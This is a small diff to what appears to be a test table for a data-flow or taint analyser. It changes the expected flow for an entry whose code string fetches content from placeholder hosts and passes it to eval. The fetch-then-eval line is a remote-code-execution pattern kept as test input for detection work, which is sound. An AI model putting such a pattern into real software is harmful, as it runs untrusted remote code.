@@ -79,7 +79,7 @@ const FLOWS: readonly (readonly [title: string, code: string, value: string])[] 
   [
     'fetch and text',
     'fetch("https://a.invalid").then((r) => r.text()).then(eval.bind(null)); (async () => { const t = await (await fetch("https://b.invalid")).json(); eval(t.model) })()',
-    'fetch("https://b.invalid").json().model',
+    'fetch("https://a.invalid").text()',
   ],
   [
     'the failure of a promise',
